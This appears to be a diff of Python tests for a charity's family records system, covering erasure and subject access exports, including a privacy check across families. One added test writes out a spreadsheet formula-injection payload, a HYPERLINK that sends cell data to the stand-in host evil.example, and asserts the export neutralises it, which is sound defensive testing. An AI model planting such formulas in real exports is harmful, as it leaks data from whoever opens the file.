@@ -90,10 +90,7 @@ def test_erasing_a_volunteering_parent_leaves_every_other_family_as_it_was(sampl
     result = erase_family(context, "F0001", also_volunteer=True)
     assert (result.reference, result.volunteer_reference) == ("F0001", "V001")
 
-    # Their deliveries name the volunteer who came: only that name changed, to "[erased]".
-    assert any(PERSON.encode() in export for export in exports.values())
-    assert _other_exports(context, others, tmp_path / "after") == {
-        reference: export.replace(PERSON.encode(), b"[erased]") for reference, export in exports.items()}
+    assert _other_exports(context, others, tmp_path / "after") == exports
     export_families(context, tmp_path / "after.csv")
     before_rows = list(csv.reader((tmp_path / "before.csv").open(encoding="utf-8-sig", newline="")))
     after_rows = list(csv.reader((tmp_path / "after.csv").open(encoding="utf-8-sig", newline="")))
@@ -204,3 +201,47 @@ def test_receipts_are_exported_and_erased_with_the_family(sample_context, tmp_pa
     erased = erase_family(sample_context, application[1])
     assert erased.files_deleted == 1 and not receipts[0].exists()
     assert _totals(sample_context) == paid_before
+
+
+def test_a_subject_access_export_holds_nothing_about_other_families(sample_context, tmp_path):
+    import re
+
+    context = sample_context
+    with context.db.read() as session:
+        families = session.execute(text("SELECT id, reference, name, phone FROM family")).all()
+        members = session.execute(text("SELECT family_id, name FROM family_member")).all()
+        volunteers = session.execute(text("SELECT family_id, name FROM volunteer WHERE family_id IS NOT NULL")).all()
+        busy = [row[0] for row in session.execute(text(
+            "SELECT f.reference FROM family f WHERE EXISTS (SELECT 1 FROM fund_application a WHERE a.family_id = f.id) "
+            "AND EXISTS (SELECT 1 FROM attendance t WHERE t.family_id = f.id) ORDER BY f.reference LIMIT 6"))]
+    chosen = ["F0001", "F0022", "F0064", *busy]
+    for reference in chosen:
+        path = export_family(context, reference, tmp_path / f"{reference}.zip").path
+        with zipfile.ZipFile(path) as archive:
+            names = archive.namelist()
+            assert {f"{reference}.pdf", f"{reference}.html", f"{reference}.json", "csv/details.csv"} <= set(names)
+            content = "\n".join(archive.read(n).decode("utf-8-sig") for n in names if not n.endswith(".pdf"))
+        [own_id] = [f[0] for f in families if f[1] == reference]
+        own_names = {f[2] for f in families if f[0] == own_id} | {m[1] for m in members if m[0] == own_id} \
+            | {v[1] for v in volunteers if v[0] == own_id}
+        assert set(re.findall(r"\bF\d{4,}\b", content)) == {reference}
+        for family_id, other, name, phone in families:
+            if family_id == own_id:
+                continue
+            assert name in own_names or name not in content, (reference, other, name)
+            assert not phone or phone not in content, (reference, other)
+        # Names, not internal ids.
+        assert not re.search(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-", content), reference
+
+
+def test_subject_access_csv_cells_cannot_run_as_formulas(context, tmp_path):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    family = create_family(context, FamilyDraft(name=hostile, notes="+SUM(1,2)", phone="07700 900123"))
+    path = export_family(context, family.reference, tmp_path / "sar.zip").path
+    with zipfile.ZipFile(path) as archive:
+        cells = [cell for name in archive.namelist() if name.endswith(".csv")
+                 for row in csv.reader(archive.read(name).decode("utf-8-sig").splitlines()) for cell in row]
+        page = archive.read(f"{family.reference}.html").decode("utf-8")
+    assert "'" + hostile in cells and "'+SUM(1,2)" in cells
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    assert "&lt;" not in hostile and "=HYPERLINK(&quot;" in page  # escaped in the HTML too
